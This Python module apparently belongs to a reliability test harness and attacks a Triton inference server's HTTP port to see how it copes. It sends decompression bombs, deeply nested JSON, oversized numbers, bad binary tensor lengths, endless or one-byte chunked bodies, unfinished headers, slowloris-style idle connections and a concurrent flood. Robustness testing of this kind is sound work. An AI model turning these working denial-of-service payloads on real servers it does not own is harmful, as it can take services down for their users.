"""Attack Triton's HTTP port, and open idle connections to any port.

Each attack takes an AttackRun and returns the number of answers of each kind.
"""

from __future__ import annotations

import http.client
import json
import socket
import threading
import zlib
from collections import Counter
from contextlib import ExitStack
from typing import Any

from reliability.http2 import LONGEST, connect
from reliability.impact import AttackRun

_INFER = "/v2/models/mini/infer"
_ZEROS = bytes(1 << 20)


def post(address: str, body: bytes, headers: dict[str, str]) -> str:
    """Send a request to mini by HTTP; return the status, or "closed" without an answer."""
    return _ask(address, "POST", _INFER, body, headers)


def _ask(address: str, method: str, path: str, body: bytes, headers: dict[str, str]) -> str:
    connection = http.client.HTTPConnection(address, timeout=LONGEST)
    try:
        connection.request(method, path, body, headers)
        answer = connection.getresponse()
        answer.read()
        return f"HTTP {answer.status}"
    except (OSError, http.client.HTTPException):
        return "closed"
    finally:
        connection.close()


def packed(megabytes: int, encoding: str, head: bytes = b"") -> bytes:
    """Return `head` and `megabytes` MiB of zeros, compressed with gzip or deflate."""
    pack = zlib.compressobj(9, zlib.DEFLATED, 31 if encoding == "gzip" else 15)
    parts = [pack.compress(head), *(pack.compress(_ZEROS) for _ in range(megabytes)), pack.flush()]
    return b"".join(parts)


def bomb(run: AttackRun, encoding: str) -> Counter[str]:
    """Send a body that decompresses to `amount` MiB."""
    body = packed(run.amount, encoding)
    return Counter([post(run.server.http, body, {"Content-Encoding": encoding})])


def nesting(run: AttackRun) -> Counter[str]:
    """Send JSON nested `amount` levels deep: lists and objects, closed and unclosed."""
    depth = run.amount
    bodies = (
        b"[" * depth,
        b"[" * depth + b"]" * depth,
        b'{"inputs":' * depth,
        b'{"inputs":' + b"[" * depth + b"]" * depth + b"}",
    )
    return Counter(post(run.server.http, body, {}) for body in bodies)


def long_numbers(run: AttackRun) -> Counter[str]:
    """Send JSON numbers of `amount` digits, too large for any type, in all fields for numbers."""
    digits = "1" * run.amount
    outcomes = Counter[str]()
    for number in ("1e999999", "-1e999999", f"0.{digits}", digits, f"-{digits}", f"1e-{digits}"):
        for body in (
            f'{{"inputs": [{{"name": "size", "shape": [{number}], "datatype": "INT32"}}]}}',
            f'{{"inputs": [{{"name": "size", "shape": [3], "datatype": "INT32",'
            f' "data": [{number}, 32, 32]}}]}}',
            f'{{"parameters": {{"timeout": {number}, "sequence_id": {number}}}, "inputs": []}}',
        ):
            outcomes[post(run.server.http, body.encode(), {})] += 1
    return outcomes


def binary_sizes(run: AttackRun) -> Counter[str]:
    """Send wrong lengths of binary tensors, each length `amount` times."""
    outcomes = Counter[str]()
    content = (32).to_bytes(4, "little") * 3
    for size in (-1, 0, 11, 13, 2**31, 2**32 + 12, 2**63 - 1, 2**63, 2**64 + 12, "12", None):
        tensor: dict[str, Any] = {"name": "size", "shape": [3], "datatype": "INT32"}
        head = json.dumps({"inputs": [tensor | {"parameters": {"binary_data_size": size}}]})
        for length in (len(head), len(head) + 1, 0, 2**40, -1):
            headers = {"Inference-Header-Content-Length": str(length)}
            for _ in range(run.amount):
                outcomes[post(run.server.http, head.encode() + content, headers)] += 1
    return outcomes


def endless_body(run: AttackRun) -> Counter[str]:
    """Send a chunked body of `amount` MiB without its end."""
    head = f"POST {_INFER} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    chunk = b"%x\r\n%b\r\n" % (len(_ZEROS), _ZEROS)
    return _unfinished(run, head.encode(), chunk)


def tiny_chunks(run: AttackRun) -> Counter[str]:
    """Send a complete body in `amount` chunks of one byte."""
    head = f"POST {_INFER} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    with connect(run.server.http) as connection:
        try:
            connection.sendall(head.encode() + b"1\r\n \r\n" * run.amount + b"0\r\n\r\n")
            answer = connection.makefile("rb").readline()
        except OSError:
            answer = b""
    return Counter([f"HTTP {int(answer.split()[1])}" if answer else "closed"])


def endless_head(run: AttackRun) -> Counter[str]:
    """Send a header of `amount` MB without its end."""
    lines = b"".join(b"x-%d: %b\r\n" % (number, b"y" * 1000) for number in range(1000))
    return _unfinished(run, f"POST {_INFER} HTTP/1.1\r\nHost: x\r\n".encode(), lines)


def _unfinished(run: AttackRun, head: bytes, part: bytes) -> Counter[str]:
    with connect(run.server.http) as connection:
        try:
            connection.sendall(head)
            for _ in range(run.amount):
                connection.sendall(part)
            run.hold()
        except OSError:
            return Counter(["closed"])
        return Counter(["closed" if _closed(connection) else "kept waiting"])


def silent(run: AttackRun, port: str, path: str) -> Counter[str]:
    """Open `amount` connections that send half a line; then send a complete request.

    A port without a `path` gets no complete request.
    """
    address = getattr(run.server, port)
    outcomes = Counter[str]()
    with ExitStack() as stack:
        connections = []
        for _ in range(run.amount):
            try:
                connections.append(stack.enter_context(connect(address)))
                connections[-1].sendall(b"GET /" if path else b"PRI")
            except OSError:
                outcomes["refused"] += 1
        run.hold()
        if path:
            outcomes[f"newcomer: {_ask(address, 'GET', path, b'', {})}"] += 1
        outcomes.update("closed" if _closed(connection) else "stayed" for connection in connections)
    return outcomes


def _closed(connection: socket.socket) -> bool:
    connection.setblocking(False)
    try:
        while connection.recv(65536):
            pass
    except BlockingIOError:
        return False
    except OSError:
        pass
    return True


def flood(run: AttackRun) -> Counter[str]:
    """Send `amount` concurrent requests for a volume."""
    inputs = [
        {"name": name, "shape": [len(data)], "datatype": "INT32", "data": data}
        for name, data in (("size", [32, 32, 32]), ("steps", [10]))
    ]
    body = json.dumps({"inputs": inputs, "outputs": [{"name": "report"}]}).encode()
    outcomes: list[str] = []
    threads = [
        threading.Thread(target=lambda: outcomes.append(post(run.server.http, body, {})))
        for _ in range(run.amount)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return Counter(outcomes)
